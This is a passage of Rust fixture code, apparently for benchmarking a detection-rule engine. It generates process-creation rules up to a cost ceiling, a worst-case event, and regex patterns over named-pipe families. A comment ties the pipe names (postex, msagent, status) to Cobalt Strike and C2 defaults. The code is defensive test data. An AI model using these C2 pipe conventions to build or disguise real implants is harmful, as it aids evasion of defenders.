/// not batched with the field's others: the dearer shape per fuel.
pub fn ceiling_spec_after_range() -> ChannelSpec {
    ceiling_spec_of(true, true)
}

fn ceiling_spec_of(regex: bool, after_range: bool) -> ChannelSpec {
    use changuard_format::cost::{TEMPLATE_CEILING, Tally};
    let cl = PROCESS_CREATE.field_index("command_line").unwrap_or(1);
    let pid = PROCESS_CREATE.field_index("pid").unwrap_or(4);
    let make = |k: usize| {
        let mut c = any(&PROCESS_CREATE);
        if after_range {
            c[pid] = CriterionSpec::IntRange {
                lo: 0,
                hi: u64::MAX,
            };
        }
        c[cl] = if regex {
            let end = char::from(b'a' + (k % 26) as u8);
            re_cs(format!("[0-9a-{end}]{{{}}}$", k / 26 % 60 + 1))
        } else {
            st(StrOp::Contains, ceiling_needle(k))
        };
        c
    };
    let k_template = changuard_format::schema::TEMPLATE_TYPES
        .iter()
        .position(|t| t.id == PROCESS_CREATE.id)
        .unwrap_or(0);
    let mut tally = Tally::new(k_template);
    let mut insts = Vec::new();
    for k in 0.. {
        let crits = make(k);
        let mut next = tally;
        next.add(crits.iter().map(|c| match c {
            CriterionSpec::Regex { .. } => changuard_format::Criterion::Regex { dfa: 0 },
            CriterionSpec::Str {
                op,
                value,
                case_insensitive,
            } => changuard_format::Criterion::Str {
                op: *op,
                needle: value.as_str(),
                case_insensitive: *case_insensitive,
            },
            CriterionSpec::IntRange { lo, hi } => {
                changuard_format::Criterion::IntRange { lo: *lo, hi: *hi }
            }
            _ => changuard_format::Criterion::Any,
        }));
        if next.total() > TEMPLATE_CEILING {
            break;
        }
        tally = next;
        insts.push(InstanceSpec {
            also: Vec::new(),
            unless: Vec::new(),
            metadata: Default::default(),
            id: k as u32 + 1,
            template: PROCESS_CREATE.id,
            action: Action::Report,
            criteria: crits,
        });
    }
    ChannelSpec {
        channel: 4000,
        version: 1,
        schema_id: SCHEMA_ID,
        instances: insts,
    }
}

fn ceiling_needle(k: usize) -> String {
    format!("{k:04}")
}

/// A process creation with every string field at its cap: the command line
/// holds every [`ceiling_spec`] needle and ends in a digit (every pattern
/// scans all of it).
pub fn ceiling_event() -> OwnedEvent {
    let strs = PROCESS_CREATE
        .fields
        .iter()
        .filter(|f| f.ty == changuard_format::FieldType::Str)
        .map(|f| {
            let all: String = (0..f.cap as usize / 4).map(ceiling_needle).collect();
            all[..(f.cap as usize).min(all.len())].to_string()
        })
        .collect();
    let ints = PROCESS_CREATE
        .fields
        .iter()
        .filter(|f| f.ty == changuard_format::FieldType::Int)
        .map(|_| 1)
        .collect();
    OwnedEvent {
        template: PROCESS_CREATE.id,
        strs,
        ints,
    }
}

/// Pipe-name families as real IOC sets have them (issue 12 item 3): a few
/// shared literals (`postex`, `msagent`, `status`, ...: the Cobalt Strike and
/// C2 defaults), each carried by many patterns that differ only in their
/// tails and alternations, so one gram hit makes a whole family candidates.
const PIPE_FAMILIES: &[&str] = &[
    "postex", "msagent", "status", "mojo", "wkssvc", "ntsvcs", "scerpc", "dce", "spoolss", "lsarpc",
];

/// `n` regex-only `pipe_name` patterns over [`PIPE_FAMILIES`]: pattern `k`
/// is family `k % 10` with tail shape `k / 10` (hex runs of varying length,
/// `(server|client)` / `(in|out)` / `(x86|x64)` alternations). Returns the
/// specs and the pattern strings (as [`regex_only_specs`]).
pub fn regex_only_family_specs(n: usize) -> (Vec<ChannelSpec>, Vec<String>) {
    let mut pats = Vec::with_capacity(n);
    for k in 0..n {
        let fam = PIPE_FAMILIES[k % PIPE_FAMILIES.len()];
        let t = k / PIPE_FAMILIES.len();
        let run = t % 24 + 1;
        let p = match t / 24 % 4 {
            0 => format!(r"\\{fam}_[0-9a-f]{{{run}}}$"),
            1 => format!(r"\\{fam}-[0-9]{{{run}}}-(server|client)$"),
            2 => format!(r"\\{fam}_(in|out)_[0-9a-f]{{{run},}}"),
            _ => format!(r"\\{fam}_(x86|x64)\.[0-9]{{{run}}}$"),
        };
        pats.push(p);
    }
    pipe_regex_specs(pats)
}

/// `n` pipe events for [`regex_only_family_specs`]: half name a family (so
/// its patterns are candidates; some match), the rest are benign pipes.
pub fn family_pipe_events(n: usize) -> Vec<OwnedEvent> {
    let mut r = Rng::new(11);
    let mut evs = pipe_events(n);
    for (k, e) in evs.iter_mut().enumerate() {
        if k % 2 == 0 {
            let fam = PIPE_FAMILIES[(r.next_u64() % PIPE_FAMILIES.len() as u64) as usize];
            e.strs[0] = match k % 8 {
                0 => format!(r"\Device\NamedPipe\{fam}_{:x}", r.next_u64()),
                2 => format!(r"\Device\NamedPipe\{fam}-{}-server", r.below(100_000)),
                4 => format!(r"\Device\NamedPipe\{fam}_in_{:x}", r.next_u64()),
                _ => format!(r"\Device\NamedPipe\{fam}_x64.{}", r.below(1_000_000)),
            };
        }
    }
    evs
}
